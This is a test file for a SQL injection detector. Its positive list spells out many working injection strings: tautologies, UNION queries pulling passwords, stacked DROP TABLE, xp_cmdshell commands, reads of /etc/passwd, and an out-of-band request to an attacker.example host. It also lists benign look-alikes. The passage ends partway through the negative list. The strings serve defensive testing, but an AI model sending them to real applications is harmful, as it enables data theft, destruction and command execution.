import t from 'tap';
import { detectSqlInjection, isSqlVocabulary, DOLLAR_WALKS_FOR_TEST } from '../../src/detectors/sql-injection';
import { prng } from '../helpers/prng';
import { verdictDigest, verdictKey } from '../helpers/verdict-table';
import { SPLIT_AFTER_DIGITS } from '../../src/tokenizers/sql';
import { charMask } from '../../src/charclass';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

/**
 * Vectors written for this suite (not taken from any corpus). Each positive must be reported at `high`
 * (blocked at paranoia 1) with a `sqli.` rule; each negative must not be `high`.
 */
const POSITIVE: Array<[string, string]> = [
  // s14b: attack counterparts of the benign values spared below.
  ['leading OR with a short number', 'OR 1'],
  ['leading OR with a zip-like number then a comment', 'OR 97201--'],
  ['leading OR with a six-digit number', 'OR 972011'],
  ['leading AND with a zip-like number', 'AND 97201'],
  ['two-argument benchmark in bare text', 'benchmark(5000000,md5(1))'],
  ['one-argument benchmark after a breakout', "x' and benchmark(9e6,md5(1))--"],
  ['one-argument benchmark after AND', '1 and benchmark(1000)'],
  ['drop table of a name', 'drop table users--'],
  ['product-like drop then a stacked drop', 'Drop Table (oak); drop table users--'],
  ['create table of a name', 'create table t (a int)'],
  ['quoted drop of an unspaced literal', "x' drop table 'users' --"],
  ['quoted label then an inline drop', "x' drop table ' a b ' drop table users--"],
  ['quoted label then a stacked drop', "x' drop table ' a b '; drop table users--"],
  ['quoted label then inline exec', "x' drop table ' a b ' exec xp_cmdshell 'dir'--"],
  ['quoted label then waitfor', "x' delete from ' a b ' waitfor delay '0:0:5'--"],
  ['quoted label then union', "x' drop table ' a b ' union select password from users--"],
  ['double-quoted drop of a name', 'x" drop table "users'],
  ['care-of then an inline select of a column', 'c/o select password from users'],
  ['inline select, a number item then FROM', 'c/o select password, 9 from users'],
  ['inline select, an aliased number then FROM', '1 select a, 9 x from users'],
  ['inline select of numbers then two words', '1 select 1, 2 main st'],
  ['leading OR with a dash and a short number', 'OR-1'],
  ['leading OR with a negative zip-like number then a comment', 'OR -97501--'],
  ['drop table, a comment, then the name', 'drop table --\nusers'],
  ['quoted label, label, then an inline drop', "x' drop table ' a b ' drop table 'c d' drop table users--"],
  ['drop table then a stacked drop', 'drop table; drop table users'],
  ['drop table, a MySQL comment, then the name', 'drop table#\nusers'],
  ['quoted label, label, then exec', "x' drop table ' a b ' exec p ' c d ' exec xp_cmdshell 'dir'--"],
  // Kept while the prose shapes above were relaxed (fp-hunt).
  ['quoted drop of a bare name', "\" ALTER A"],
  ['drop of a bare name then a comment', 'drop users--'],
  ['stacked drop of a bare name after a breakout', "'; drop users"],
  ['stacked drop of a bare name with a comment', '1; drop users#'],
  ['inline select of a glued literal', "' select 'a'--"],
  ['inline drop table in a numeric context', '1 drop table users'],
  // Tautologies after a quote breakout, numeric context, and as a trailing clause.
  ['single-quote tautology', "' or '7'='7"],
  ['double-quote tautology', '" or "k"="k'],
  ['numeric tautology', '42 or 42=42'],
  ['tautology with comment', "nobody' OR 'z'='z' -- "],
  ['hash comment', "guest' or 3=3#"],
  ['or true', "' OR true--"],
  ['bare or true', 'or true--'],
  ['greater-than tautology', "' or 9>2 -- "],
  ['like tautology', "zz' or 'abc' like 'abc"],
  ['like wildcard', "' or login like '%"],
  ['numeric like wildcard', '10 or title like \'%\''],
  ['self comparison', "' or col=col--"],
  ['parentheses instead of spaces', "'or(5)=(5)--"],
  ['nested parentheses', "x')) or ((('q'='q"],
  ['mixed case', "' oR 8=8 /*"],
  ['hex literals', "' or 0x41=0x41 -- "],
  ['or with literal, app closes quote', "x' or '1"],
  ['concatenated or', "abc'||'1'='1"],
  ['where clause', "1 WHERE 4=4"],
  // UNION.
  ['union select', "' UNION SELECT login, pass FROM members--"],
  ['union all null', '7 UNION ALL SELECT NULL,NULL,NULL--'],
  ['union with sysvar', '-3 union select 1,@@version,3'],
  ['union split by comments', 'UN/**/ION SEL/**/ECT 1,2'],
  ['versioned comments', "' /*!50000UNION*/ /*!50000SELECT*/ 1,2 -- "],
  ['closing app parens', '5)) union select 1,2--'],
  ['union with vertical tab', "' union\u000bselect 1--"],
  ['union with nbsp', "' union\u00a0select 1--"],
  ['union with form feed', "0\funion\fselect\f1"],
  ['union without spaces', '9 union(select 1,2)'],
  ['scientific notation glued', '1e0union select 1'],
  ['decimal glued', '.5union select 2'],
  ['hex number then union', '0x31 union select 2'],
  ['mssql bracket identifiers', '1 union select [name] from [sysobjects]--'],
  ['url plus as space', "zz'union+all+select+1,2--"],
  // Stacked queries.
  ['drop table', '3; DROP TABLE accounts'],
  ['xp_cmdshell', "'; exec master..xp_cmdshell 'whoami'--"],
  ['shutdown', "'; shutdown--"],
  ['waitfor after semicolon', "1;waitfor delay '0:0:7'--"],
  ['insert', "x'; insert into admins values ('eve','pw')--"],
  ['update set', "'; update users set role='admin' where name='eve'--"],
  ['declare exec', "'; declare @q nvarchar(99); set @q='x'; exec(@q)--"],
  ['mssql if', "';if (1=1) waitfor delay '0:0:3'--"],
  ['stacked select with function', '8; select current_database()--'],
  // Comment truncation.
  ['dash comment', "admin'--"],
  ['hash comment truncation', "admin'#"],
  ['open block comment', "admin'/*"],
  ['paren and comment', "root') -- "],
  ['bare quote dash dash', "' -- "],
  ['nul truncation', "admin'\u0000"],
  // Time, error, file, exec.
  ['sleep', '1 and sleep(5)'],
  ['benchmark', "' and benchmark(5000000,md5(1))--"],
  ['pg_sleep stacked', "'; select pg_sleep(10)--"],
  ['pg_sleep bare', 'pg_sleep(4)'],
  ['copy to program stacked', "1;copy (select '') to program 'id'"],
  ['union after a bare word, with FROM', 'x union select password from users'],
  ['union at the start, two items', 'union select name, email'],
  ['union at the start, a function', 'union select user()'],
  ['union probe ending at SELECT', 'uNioN sElecT'],
  ['union with inline comments', 'union/**/select/**/username'],
  ['bare statement with an alias then SQL', 'delete from users my where 1=1'],
  ['stacked insert without into', '1; insert users values (1)'],
  ['stacked replace with comments', ";RePLAcE/*x*/t/*x*/(id, name) VALUES (1, 'x');"],
  ['stacked truncate of one name', '1; truncate users'],
  ['stacked drop of one name with a comment', '1; drop users--'],
  ['stacked exec of a procedure with a literal', "1; exec myproc 'a'"],
  ['stacked load data infile', "1;load data infile '/etc/passwd' into table t"],
  ['stacked show tables', '1; show tables'],
  ['stacked dblink (PostgreSQL out-of-band)', "1;select dblink_connect('host=h.invalid')"],
  ['stacked query_to_xml (whole-query exfiltration)', "1;select query_to_xml('select * from users',true,true,'')"],
  ['inline drop after a breakout (MSSQL needs no semicolon)', "x' drop table users --"],
  ['inline drop of a name glued to the quote (an identifier)', 'x"drop table"users'],
  ['inline delete reopening the literal at the end', "x' delete from users '"],
  ['stacked select of bare words', 'abc; select password from users'],
  ['stacked select with a prose word, then a comment', 'x; select your name from users--'],
  ['stacked select with a prose word, then a condition', '1; select the from users where 1=1'],
  ['bare statement ended by a comment', 'drop table users -- the end'],
  ['union after a bare word, final comment', 'abc union select username-- -'],
  ['copy from file stacked', "'; copy users from '/etc/passwd'--"],
  ['waitfor delay', "1' waitfor delay '0:0:5'--"],
  ['dbms_pipe', "' and 1=dbms_pipe.receive_message('x',5)--"],
  ['dbms_lock', "'; begin dbms_lock.sleep(3); end;--"],
  ['extractvalue', "' and extractvalue(1,concat(0x7e,version()))--"],
  ['updatexml', "' and updatexml(null,concat(0x3a,user()),null)-- "],
  ['convert error', '1 and 1=convert(int,@@version)'],
  ['cast error', "' and 1=cast(version() as int)--"],
  ['load_file', "' union select load_file('/etc/passwd')--"],
  ['into outfile', "' into outfile '/var/www/x.php'--"],
  ['utl_http', "1' and utl_http.request('http://attacker.example')=1--"],
  ['utl_inaddr', "' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--"],
  ['randomblob', "' and 1=randomblob(300000000)--"],
  ['sleep with space', "' or sleep (3)#"],
  ['sleep in derived table', "' and (select * from (select(sleep(4)))x)--"],
  // Boolean blind.
  ['and true comparison', "' and 1=1--"],
  ['and false comparison', "' and 1=2--"],
  ['substring probe', "1 and substring(@@version,1,1)='8'"],
  ['ascii probe', "' and ascii(substr((select user()),1,1))>64--"],
  ['char encoding', '1 and char(65)=char(65)'],
  ['if with constant', "1 and if(2>1,sleep(0),0)"],
  ['exists subquery', "' and exists(select 1 from users)--"],
  ['between', "' or 5 between 1 and 9--"],
  ['in list', "1 or 3 in (1,2,3)"],
  ['boolean blind no spaces', "1'and(2)=(2)#"],
  ['tabs and newlines', '1\tor\n1=1'],
  ['comment separators', "'/**/or/**/1=1--"],
  // ORDER BY / GROUP BY / HAVING probes.
  ['order by number', '1 order by 5--'],
  ['order by after quote', "' ORDER BY 3#"],
  ['group by having', "1' group by 2 having 1=1--"],
  ['having', "' having 1=1--"],
  // Subqueries and concatenation.
  ['concat subquery', "' || (select password from users limit 1) || '"],
  ['plus subquery', "'+(select top 1 name from sysobjects)+'"],
  ['oracle dual', "' || (select user from dual) || '"],
  // Dialect odds and ends.
  ['postgres cast', "1 and 1=(select 1)::int"],
  ['postgres dollar', "1 and $$a$$=$$a$$"],
  ['sqlite version', "-1 union select sqlite_version()"],
  ['backtick breakout', '`=1 union select 2-- '],
  ['full statement', 'SELECT * FROM users WHERE 1=1'],
  ['delete statement', 'DELETE FROM orders;--'],
  ['information schema', 'select table_name from information_schema.tables'],
  ['glued comment evasion', 'SELECT/**/pass/**/FROM/**/staff'],
  ['typographic quotes', '\u2019 or \u20191\u2019=\u20191'],
  ['string op string', "K' * 'L"],
  ['form value', 'q=1 or 1=1'],
  ['postgres json operator', 'OR \'{"k":1}\' ? \'k\''],
  ['postgres json containment', '\'{"x":[1,2]}\'::jsonb @> \'{"x":[1]}\''],
  ['postgres glued cast', "'7'::int"],
  ['leading close paren', ') OR (2>1'],
  ['bare opening builtin', 'ascii('],
  ['stacked conditional function', "5; iif(1=1,1,0)"],
  ['mssql goto batch', "'goto lbl select 1"],
  ['case when', '1 and (case when 1=1 then 1 else 0 end)=1'],
  ['fulltext mode', "x' in boolean mode) and 1=1#"],
  ['nul separators', 'SELECT\u0000name\u0000FROM\u0000sysobjects'],
  ['decimal glued union', '-1.0union select 1'],
  ['oracle ctxsys', "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--"],
  ['mssql sp_configure', "1; exec sp_configure 'show advanced options',1--"],
  ['numeric or true', '77 or true'],
  ['having true', '1 having true'],
  ['nested builtins', 'length(compress(version()))'],
  // MySQL full-text predicate without parentheses after the breakout.
  ['match against after or', "' or match title against ('+x -y' in boolean mode)-- "],
  ['match against two columns', "x' and match a, b against ('foo')#"],
  // A quoted walk that dies on a dialect oddity and finds SQL further on.
  ['noise after breakout then union', "9'x~ union select password from users--"],
  ['oddity then tautology', "5' or 2.e(3) or 'q'='q"],
  // AND/OR right after the only quote, a bare comment at the end, an unknown middle.
  ['or then unknown then comment', "bob'or(rowid 1)--"],
  ['and then is not then comment', "x'and k is not?--"],
  // A login-like literal closed and the statement ended.
  ['quote semicolon after login', "jdoe@example.org';"],
  ['quote comment semicolon', "guest'/* note */;"],
  ['backtick semicolon after login', 'root`;'],
  // A leading semicolon and a statement keyword.
  ['leading semicolon truncate', ';truncate logs'],
  ['breakout semicolon delete', "';delete"],
  ['double quote semicolon select', '";select name'],
  // Numeric context: constant comparisons only SQL writes, or followed by a comment.
  ['sql not-equal', '7<>8'],
  ['null-safe equal', '3<=>3'],
  ['numbers like', '5 like 5'],
  ['literals rlike', "'2' rlike '3'"],
  ['not-equal then comment', '2!=3-- x'],
  ['comparison, or, comment', "4='4' or-- -"],
  ['number or column condition', '9 || login is not null'],
  ['closing paren then comment', '1)--'],
  ['number, quote, parens, comment', "7'))#"],
  // PostgreSQL error-based casts of a column.
  ['column cast to int', 'secret::int'],
  ['overlay placing cast', "overlay(pw placing 'x' from 1 for 0)::int"],
  // Catalogs as quoted identifiers.
  ['backtick catalog', 'from `mysql`.user'],
  // MSSQL trace evasion.
  ['sp_password comment', '--sp_password'],
  ['sp_password after breakout', "x'--  SP_password"],
  // Typographic prime as a quote.
  ['prime quotes', ") or ('3\u2032='3"],
  // The tail of an INSERT.
  ['values row', "values ('10.0.0.9', 'guest')"],
  // Backslash games: an escaped quote before the breakout, backslashes in the literal.
  ['escaped quote then breakout', "bar\\''or'zzz"],
  ['backslashes in the literal', 'ab\\\\"cd\' or \'1'],
  // Nested block comments (PostgreSQL, SQL Server): the flat reading sees ` c */` as code and dies.
  ['nested comment hides a union', "5' /* p /* q */ r */ UNION SELECT login FROM staff--"],
  ['nested comments as spaces', "k'/*/**/*/union/*/**/*/select/*/**/*/pwd/*/**/*/from/*/**/*/staff--"],
  ['nested comment splits union', "9' UNI/* /* */ z */ON SELECT 4--"],
  ['nested comments around or', "m'/*/**/*/or/*/**/*/8=8--"],
  ['nested comments, bare and sleep', '3/*/**/*/and/*/**/*/sleep(2)'],
  ['nested comment truncation after a login', "root' /* a /* b */ c */--"],
  ['nested comment before union, bare', '6 /*x/*y*/z*/ union select pass from staff'],
  // Standard strings (PostgreSQL, SQL Server, Oracle, SQLite): a backslash is a character, so `'\'`
  // is a whole literal there, while MySQL's reading runs it on and hides what follows.
  ['backslash literal hides a tautology from the MySQL reading', "kq' or '\\'='\\' or 3=3--"],
  ['backslash literals compared, nothing after', "kq' or 'z\\'='z\\' --"],
  ['backslash literal before pg_sleep', "7' and '\\' = '\\' and (select 1 from pg_sleep(4))=1--"],
  ['backslash literal in a union select list', "kq' and 'a\\'='a\\' union select pw,null from staff--"],
  ['backslash literal concatenated with a delay', "kq'||'\\'||(select pg_sleep(4))||'"],
  ['double-quoted backslash literal', 'kq" or "\\"="\\" or 5=5--'],
  ['backslash literal like itself', "kq' or '\\' like '\\' --"],
  // Stacked statements that change or read data without SELECT, INSERT, UPDATE or DELETE.
  ['stacked bulk insert from a server file', "'; BULK INSERT tmp FROM 'c:\\windows\\win.ini'--"],
  ['stacked bulk insert into a temp table from a share', "4;bulk insert #t from N'\\\\host\\s\\f'"],
  ['stacked handler open', "'; handler staff open--"],
  ['stacked handler read', "1; HANDLER staff READ FIRST"],
  ['stacked merge deleting rows', "'; merge into staff using (select 1 a) s on 1=1 when matched then delete--"],
  ['stacked merge without into, alias', "'; MERGE [staff] AS t USING src ON 1=1 WHEN MATCHED THEN DELETE;--"],
  // PostgreSQL's `#` is XOR, not a comment: what MySQL's reading hid after it is code there.
  ['xor sign before a tautology, numeric', '8#8 or 2=2'],
  ['xor sign before a union, numeric', '8 # 0 union select pw from staff'],
  ['xor sign after a closing parenthesis', '8)#0 or (2=2'],
  ['xor sign after a breakout', "8'#0 or 2=2--"],
  ['xor sign before a delay', '8#8 and (select 1 from pg_sleep(3))=1'],
  // PostgreSQL ends a `--` comment at CR as well as LF; MySQL's reading runs it on to the LF.
  ['comment ended by a CR, then a tautology', "kq'--\r or 4=4--"],
  ['comment ended by a CR, numeric', '4 -- z\r or 4=4'],
  ['comment ended by a CR, then a union', "kq' /* z */ --\r union select pw,2 from staff--"],
  // MySQL's `--` needs a space or control character after it; before a digit it is two minus signs.
  ['double minus before a union, numeric', '4--4 union select pw from staff'],
  ['double minus before a union, breakout', "kq'--7 union select pw,2 from staff#"],
  ['double minus before a tautology', "kq'--2 or 6=6#"],
  ['double minus before a delay', '4--4 and sleep(3)'],
  ['double minus before a stacked drop', '4--4;drop table staff'],
  ['triple minus before a union', '4---4 union select 5,6'],
  // MySQL's \N (NULL) glued to a keyword.
  ['null glued to union', '\\Nunion select 5,6'],
  ['null glued to union, upper case', '\\NUNION SELECT null,version()'],
  ['number, null glued to union', '3\\Nunion select 4'],
  ['null glued to or after a breakout', "v'\\Nor 6=6--"],
  ['null glued to or', '\\Nor 2=2'],
  ['or glued to null is null', '-4 or\\Nis null'],
  ['null compared with null', '7 and\\N=\\N'],
  ['null glued to and, sleep', '\\Nand sleep(3)'],
  // UNION DISTINCTROW (MySQL's DISTINCT), DISTINCT, ALL.
  ['union distinctrow', '8 UNION DISTINCTROW SELECT 3,4'],
  ['union distinctrow, mixed case, breakout', "-2' UnIoN DiStInCtRoW SeLeCt 7,8,9#"],
  ['union distinctrow between comments', "q' union/**/distinctrow/**/select user()--"],
  ['distinctrow split by a comment', "q' union distinct/**/row select pw from staff--"],
  ['union distinct with a sysvar', '4 union distinct select @@version'],
  ['union all after a breakout', "w' union all select pw from staff--"],
  // PostgreSQL dollar-quoted literals inside an injection.
  ['union with a dollar-quoted literal', "2' union select $$zz$$,pw from staff--"],
  ['union with a tagged dollar-quoted literal', "2' union select $q$zz$q$,pw from staff--"],
  ['dollar-quoted tautology', "h' or $$k$$=$$k$$--"],
  ['tagged dollar-quoted tautology', "h' and $t$k$t$=$t$k$t$--"],
  ['stacked pg_sleep with dollar quotes', "'; select pg_sleep(3) where $$b$$=$$b$$--"],
  ['dollar-quoted literal holding a quote', "2' union select $$it's$$,pw from staff--"],
  // ORDER BY / GROUP BY / SELECT-list boolean tests with a searched CASE.
  ['order by case with a constant condition', '2 ORDER BY CASE WHEN (3=3) THEN title ELSE cost END'],
  ['case as the whole sort parameter', 'CASE WHEN (4=4) THEN title ELSE cost END'],
  ['case, lower case, no parentheses', 'case when 6=6 then id else mail end'],
  ['case in a parenthesised sort item', 'title,(CASE WHEN 2=2 THEN 1 ELSE 1/0 END)'],
  ['case comparing literals', "cost,(case when 'p'='p' then 1 else 0 end)"],
  ['case with a bare constant condition', 'id, case when 1 then 1 else 0 end'],
  ['case with a self comparison', '(case when title=title then 1 else 0 end)'],
  ['case in a later when arm', 'case when a=2 then 1 when 9=9 then 2 end'],
  ['simple case with a constant subject', 'CASE 3 WHEN 3 THEN title ELSE cost END'],
  ['simple case with a constant subject, second item', 'id, case 4 when 4 then 1 else 0 end'],
  ['case between comments', 'x, case/**/when 5=5 then 1 end'],
  ['order by case after a breakout', "z' ORDER BY CASE WHEN 1=1 THEN 1 ELSE 2 END--"],
  ['group by case', '1 GROUP BY CASE WHEN 7=7 THEN region ELSE city END'],
  // The pre-scan's early exits (ORDER/GROUP without BY, a lone `!`) must keep these.
  ['order by across a vertical tab', '1 order\u000bby 4'],
  ['group by across a NUL', '1 group\u0000by 2'],
  ['exclamation then a breakout', "thanks! x' or 1=1--"],
  ['unary not before a tautology', '!1 or 2=2'],
  ['stacked call', '1; call myproc(1)--'],
  ['inline if with a parenthesised condition', "1 if (1=1) waitfor delay '0:0:2'--"],
  ['if not exists at the start', "if not exists(select 1) waitfor delay '0:0:3'"],
  ['stacked if', '1; if 1=1 select 1--'],
  ['inline update with set', '1 update users set role=1'],
  ['update of a quoted table', 'update `users` set a=1'],
  ['subquery with case on a substring', "(select case when substring(pw,1,1)='q' then 1 else 0 end from staff)"],
  // MySQL DO after a semicolon: an expression statement, with a delay call the stacked blind test.
  ['stacked do sleep after a breakout', "'; do sleep(3)--"],
  ['stacked do sleep, numeric, upper case', '1; DO SLEEP(5)'],
  ['stacked do benchmark', "'; do benchmark(1000000,md5(1))--"],
  ['stacked do sleep, no spaces', '7;do sleep(4)'],
  ['stacked do benchmark, hash comment', "q'; DO BENCHMARK(2000000,SHA1(0x61))#"],
  ['stacked do pg_sleep after a double quote', '2"; do pg_sleep(2)--'],
  ['stacked do after a closing parenthesis', '1); do sleep(3)-- -'],
  ['stacked do with a comment before the call', '4;DO/**/SLEEP(2)'],
  ['stacked do get_lock', "'; do get_lock('k',9)--"],
  ['stacked PostgreSQL DO block', "'; DO $$BEGIN PERFORM pg_sleep(4); END$$--"],
  ['stacked PostgreSQL DO with a language', '3; do language plpgsql $t$begin perform pg_sleep(2); end$t$'],
  // A CASE inside a segment (after `=`, an operator, inside a parenthesis, after a comma).
  ['case in a parenthesis after and', "1' and 1=(case when 1=1 then 1 else 0 end)--"],
  ['case with a union in its else arm', 'id=1 AND (CASE WHEN (1=1) THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)'],
  ['case after an equals sign', 'x = CASE WHEN 1=1 THEN 1 ELSE 0 END'],
  ['case after a plus', '1 + case when 2=2 then 1 else 0 end'],
  ['case after a comma and an equals sign', "id, name = case when 5=5 then 'a' end"],
  ['case comparing numbers after a comma', 'name,price=case when 2>1 then 1 else 0 end'],
  ['simple case with a constant subject after an equals sign', 'x = case 2 when 2 then 1 else 0 end'],
  ['case concatenated after a breakout', "' + case when 3=3 then 'a' else 'b' end + '"],
  ['case compared after a breakout', "k'=(case when 4=4 then 1 else 0 end)--"],
  // The pre-scan's statement-word, logic-word, `?` and leading-keyword exits must keep these.
  ['delete and from split by a comment', 'delete/**/from staff where 2=2'],
  ['insert and into split by a comment', "insert/**/into t values (1,'a')"],
  ['drop and table split by a comment', 'drop/**/table staff'],
  ['drop table of one name ended by a semicolon', 'Drop table staff;'],
  ['drop of one name, a semicolon and a comment', 'Drop staff;--'],
  ['stacked bare delete, a semicolon and a comment after a label', 'x; insert row; delete users; #'],
  ['stacked kill', '1; kill 1'],
  ['stacked lock tables', "'; lock tables staff write--"],
  ['JSON key test after a literal', 'OR \'{"b":2}\' ?| \'b\''],
  ['JSON key test after a jsonb cast', "1 and data::jsonb ? 'admin'"],
  ['select of plain words then a condition', 'select the blue one from staff where 3=3'],
  ['contraction then a breakout', "It's fine' or '4'='4"],
  ['two words then a breakout', "Hi there' or 5=5--"],
  ['a word then a double-quote breakout', 'bob" or "c"="c'],
  ['and before an N-prefixed literal', "1 and n'q'='q'--"],
  ['and with two words, then a tautology', "x' and a b or 6=6--"],
  ['and with two words after FROM (an alias), then a tautology', 'a from t and b c or 7=7'],
  ['or before a keyword split by a comment', '2 or un/**/ion select 3'],
  ['order by a column after a breakout, then a comment', "x' order by name desc--"],
  // s15 hC: stacked statements kept while lists of labels are spared (see the negatives).
  ['stacked delete without FROM (T-SQL, Oracle)', '1; delete users'],
  ['stacked delete without FROM after a column', 'id; delete users'],
  ['stacked delete without FROM after syntax the walker does not read', '1 option (maxdop 1); delete users'],
  ['stacked delete after OFFSET … ROWS', '1 offset 0 rows fetch next 1 rows only; delete users'],
  ['stacked delete after WITH (NOLOCK)', '1 with (nolock); delete users'],
  ['stacked delete after SET NOCOUNT ON', '1; set nocount on; delete users'],
  ['stacked delete after AT TIME ZONE', "1 at time zone 'UTC'; delete users"],
  ['stacked exec after NULLS FIRST', 'name asc nulls first; exec sp_who'],
  ['stacked shutdown after an unknown clause', '1 option (maxdop 1); shutdown'],
  ['stacked truncate after an unknown clause', '1 option (recompile); truncate users'],
  ['stacked bare delete after a bare delete', '1 option (maxdop 1); delete users; delete logs'],
  ['stacked delete, a label then a comment', 'x; insert row; delete users--'],
  ['stacked drop table after a label list', 'Select all; Insert row; drop table users'],
  ['stacked delete from after a label list', 'Select all; Insert row; delete from users'],
  ['stacked exec of an xp_ procedure after a label', 'Agenda: Intro; exec xp_cmdshell \'dir\''],
  ['stacked lock table with a name', '1; lock table users'],
  ['stacked exec of a procedure', '1;exec myproc'],
  ['stacked shutdown', '1; shutdown'],
  ['stacked desc', '1; desc users'],
  ['stacked begin tran', '1; begin tran'],
  ['stacked begin work', '1; begin work'],
  ['stacked begin alone', 'x; begin'],
  ['stacked bare delete followed by valid SQL', '1; delete users; select 1'],
  ['stacked bare exec followed by valid SQL', '1; exec myproc; select 1'],
  ['stacked exec of an sp_ procedure before a label', '1; exec sp_who; Foo bar'],
  ['stacked bare truncate before a label (MySQL runs statements one by one)', '1; truncate users; Foo bar'],
  ['stacked bare delete after LIMIT ALL', '1 limit all; delete users'],
  ['stacked bare delete before a T-SQL label', '1; delete users; x:'],
  ['stacked bare delete before a T-SQL label with a blank', '1; delete users; x :'],
  ['stacked bare delete before CHECKPOINT', '1; delete users; checkpoint'],
  ['stacked bare delete after CHECKPOINT', '1 option (x); checkpoint; delete users'],
  ['stacked bare exec before FLUSH', '1; exec myproc; flush'],
  ['stacked bare delete before RAISERROR', "1; delete users; raiserror('x',16,1)"],
  // s15 hC gaps: SQL Server forms the stacked check did not read.
  ['stacked insert of default values (T-SQL, no INTO)', '1; insert users default values'],
  ['stacked insert of default values then a comment', '1;insert t default values--'],
  ['stacked delete of a bracketed name', '1;delete[users]'],
  ['stacked delete of a backticked name', '1;delete `users`'],
  ['stacked exec of a bracketed xp_ procedure', "1;exec[xp_cmdshell]'dir'"],
  ['stacked exec of a double-quoted sp_ procedure', '1;exec"sp_who"'],
  ['stacked exec of a bracketed procedure', '1;exec[myproc]'],
  ['stacked update after a label list', 'Select all; update users set role=1'],
  ['drop of a bare name glued to a comment', '1;drop/**/users'],
  // s15 hC: what the password-shaped exemptions below keep.
  ['MySQL `user = 0` bypass with #', "'-0#"],
  ['MySQL bitwise bypass with #', "'|0#"],
  ['MySQL xor bypass with # after a name', "admin'^0#"],
  ['modulo bypass with #', "'%1#"],
  ['comparison bypass with #', "'=0#"],
  ['not-equal bypass with #', "'<>1#"],
  ['comparison closed by the application', "admin'='"],
  ['PostgreSQL concatenation bypass with --', "'||username--"],
  ['parenthesised expression ended by a comment', '(1)or(1)=(1)#'],
  ['parenthesised subquery ended by a comment', '(select 1)#'],
  ['array compared in a parenthesis, then a comment', '(1 or array[1,2] = array[1,2])#'],
  ['T-SQL not-greater comparison of numbers', '1!>0'],
  ['T-SQL not-greater comparison with a closed literal', "1!>'0'"],
  ['value closes a parenthesis then IS NULL and a comment', ') is null#'],
  // s21 hC: nearest attacks of the quoted words, contractions and end-of-value labels spared below.
  ['OR with a digit-led literal after a login', "x' or '1"],
  ['OR with the empty literal after a login', "admin' or '"],
  ['OR with the empty literal after a blank', "' or '"],
  ['quoted word then a tautology in the next literal', "x 'or' ' or '1'='1"],
  ['quoted word glued to a tautology', "x 'or'1=1--"],
  ['an operator joins a login to the application literal', "x' like 'a"],
  ['contraction-like literal glued to a comparison', "1 where's'='s"],
  ['drop of a name closed by the application', "x' drop table users'"],
  ['stacked drop of a name closed by the application', "x'; drop table users'"],
  ['prose-quoted union select of numbers', "foo 'union select 1,2--"],
  ['prose-quoted union select of a literal', "foo 'union select '1"],
  ['prose-quoted union select, a closed phrase, then columns and FROM', 'foo "union select" x", password from users--'],
  ['union select after a one-letter operand', "A 'union select' B"],
  ['prose-quoted union select glued to its literal', "foo 'union select'a"],
  // s21 rB: working injections the s21 relaxations let through (each passed at 1a6af64, high before).
  // `'x ' or ' 1'`: MySQL and SQLite read ' 1' as 1; PostgreSQL takes ' true', ' t', 'yes', 'on'.
  ['quoted word OR, then a number in the application literal', "Press the 'or' 1"],
  ['quoted word OR, then a comment-looking number', "See the 'or' 1-- "],
  ['quoted word OR, then a fraction', "Press the 'or'.5"],
  ['quoted word OR, then a PostgreSQL boolean word', "Press the 'or' true"],
  ['quoted word OR, then a PostgreSQL boolean prefix', "Press the 'or' t"],
  ['quoted word OR, then yes', "Press the 'or' yes"],
  ['quoted word XOR, then a number', "Press the 'xor' 1"],
  ['quoted word DIV, then a number (col = 0)', "Press the 'div' 1"],
  // `(col = 'x ') REGEXP '.'` (MySQL), `… GLOB '?'` (SQLite): the comparison's 0 matches.
  ['quoted word REGEXP with a dot pattern', "See the 'regexp'."],
  ['quoted word RLIKE with a dot pattern', "See the 'rlike'."],
  // A contraction whose literal closes: `1 or 's a' like 's a'` in a numeric context.
  ['contraction-like literal after OR then LIKE', "1 or's a' like 's a'"],
  ['contraction-like blank literal after OR then LIKE', "1 or's ' like 's '"],
  ['contraction-like literal after XOR then LIKE', "1 xor's ' like 's '"],
  ['contraction-like literal after NOT', "1 or not's ' like 'x'"],
  ['contraction-like literal in a CASE with sleep', "1 and case when's a' like 's a' then sleep(5) else 0 end"],
  ['table-name context, WHERE contraction then LIKE', "users where's a' like 's a'"],
  ['contraction-like literal, a regexp', "1 or's ' regexp 's'"],
  // A prose-quoted UNION SELECT of a number: one row whose column reads as 1.
  ['prose-quoted union select of a blank-led number', "What does 'union select' 1"],
  // s21 rB, older than s21: a tab or line break before the number of the open literal (medium before).
  ['OR with a tab-led number in the open literal', "admin' or '\t1"],
  ['OR with a newline-led number in the open literal', "admin' or '\n1"],
  ['quoted word OR, a tab, then a number', "Press the 'or'\t1"],
];

/** Weaker shapes: reported at medium (paranoia 2), never high. */
const MEDIUM: Array<[string, string]> = [
  ['number then comment', '1 --'],
  ['arithmetic then open comment', '2 * 3 /*'],
];

const NEGATIVE: Array<[string, string]> = [
  // s14b: benign values that were blocked.
  ['state and zip field', 'OR 97201'],
  ['state and zip+4 field', 'OR 97201-1234'],
  ['one-argument benchmark in prose', 'benchmark(1000) results: 739ms'],
  ['product name with a parenthesis', 'Drop Table (oak), 120cm'],
  ['product name with a parenthesis, create', 'Create Table (pine)'],
  ['two quoted products', "I want the 'Drop Table' and the 'Oak Chair'."],
  ['two double-quoted products', 'Please ship 2 "Drop Table" and 1 "Union Jack"'],
  ['two double-quoted UI labels', 'Click "Delete from list" then "Save"'],
  ['state and zip with a dash', 'OR-97501'],
  ['product name with a dash', 'Drop Table - oak (72"x36") ; qty 2'],
  ['product name with a colon', 'Drop Table: walnut'],
  ['two UI labels, the second a statement word', "Choose 'Drop Table' from the menu, then 'Create Table' in the dialog"],
  ['search syntax with quoted titles', 'title:"Drop Table" OR title:"Alter Ego Tee"'],
  ['order line with quoted products', 'Order #308: 2x "Drop Table" (443), 1x "Insert Tray"; ship to Ng\'ang\'a'],
  ['two quoted products, second a statement word', "I bought the 'Drop Table' and the 'Update Kit' but only one arrived"],
  ['search exclusion of a quoted product', '"Drop Table" -"Exec Chair"'],
  ['product search', 'Drop Table'],
  ['product list', 'Drop Table; Oak Chair; Create-A-Bear'],
  ['care-of address line with a company name', 'c/o Select Comfort, 9 Main St #3, Bend, ID 83702'],
  // Look-alikes of the nested-comment, \N, DISTINCTROW, dollar-quote and CASE vectors.
  ['nested comment in a code note', '/* TODO: /* nested */ remove */'],
  ['nested comment described in prose', 'Comment style: /* outer /* inner */ still outer */ works in Postgres'],
